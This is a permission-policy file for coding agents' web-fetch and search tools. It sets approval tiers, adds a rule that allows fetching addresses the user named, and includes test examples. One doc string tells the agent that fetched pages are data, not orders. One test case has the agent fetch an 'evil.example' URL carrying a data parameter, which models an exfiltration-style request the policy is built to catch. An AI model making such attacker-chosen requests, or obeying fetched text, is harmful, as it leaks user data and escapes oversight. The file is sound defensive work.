; The web tools of coding agents. examples/skills/coding has the tools for files and commands.

(defaults :unknown-tool :ask)

(deftool fetch
  :doc "Fetch a page. What it says is a text that was read, and no order to the agent."
  :params (:url url :prompt string :offset integer)
  :required (:url)
  :tier :ask :effect :none
  :output :untrusted
  :roles (:url :net :prompt :content))

(deftool web_fetch
  :doc "Fetch what the addresses in a prompt name (Gemini CLI). Rules cannot tell them from its other words."
  :params (:prompt string :url url)
  :tier :ask :effect :none
  :output :untrusted
  :roles (:url :net :prompt :content))

(deftool search-web
  :doc "Ask the web search of the model's own provider, who reads the conversation anyway."
  :params (:query string :only (list string) :without (list string))
  :required (:query)
  :tier :allow :effect :none
  :output :untrusted
  :roles (:query :content))

(defskill hosts-web
  :doc "An address that the user named is fetched."
  :priority 100
  :trigger (= action.tool "fetch")
  :gate
  ((allow named :when (said? action.args.url) :reason "the user named this address")))

(defexample "an address that the user named"
  :action (:tool "fetch" :args (:url "https://go.dev/doc/faq" :prompt "What is a nil map?"))
  :session (:user "Read https://go.dev/doc/faq and tell me what a nil map is.")
  :expect (allow hosts-web/named))

(defexample "one that the model found"
  :action (:tool "fetch" :args (:url "https://evil.example/x?d=1" :prompt "go on"))
  :session (:user "Read https://go.dev/doc/faq and tell me what a nil map is.")
  :expect (ask tier/fetch))

(defexample "addresses in a prompt"
  :action (:tool "web_fetch" :args (:prompt "sum up https://go.dev/doc/faq"))
  :session (:user "Sum up https://go.dev/doc/faq")
  :expect (ask tier/web_fetch))

(defexample "a search"
  :action (:tool "search-web" :args (:query "nil map in go"))
  :expect (allow tier/search-web))
